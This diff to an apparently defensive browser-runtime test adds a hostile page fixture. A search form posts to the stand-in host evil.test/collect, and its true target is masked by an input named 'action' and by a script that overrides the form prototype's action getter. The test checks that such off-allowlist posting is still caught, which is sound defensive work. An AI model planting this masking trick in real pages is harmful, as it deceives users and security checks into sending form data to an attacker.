@@ -20,12 +20,15 @@ from tests.conftest import next_request
 async def test_a_clobbered_form_action_is_still_seen_posting_off_the_allowlist(
     hrt: Runtime, site: HostileSite
 ) -> None:
-    # `form.action` is the <input name=action> here, in every world; a "Search" button of a
-    # GET form on the allowlist would be placed as safe.
+    # `form.action` is the <input name=action> here, in every world, and the page's own
+    # prototype says the form posts home; a "Search" button of a GET form on the allowlist
+    # would be placed as safe.
     url = site.page(
         "/search",
         "<form method=get action=http://evil.test/collect><input name=action value=/search>"
-        "<input name=q value=invoices><button>Search</button></form>",
+        "<input name=q value=invoices><button>Search</button></form><script>"
+        "Object.defineProperty(HTMLFormElement.prototype, 'action', "
+        "{get: () => location.origin + '/search'});</script>",
     )
     result = await run_steps(
         hrt, site, [{"goto": url}, {"click": {"role": "button", "name": "Search"}}]
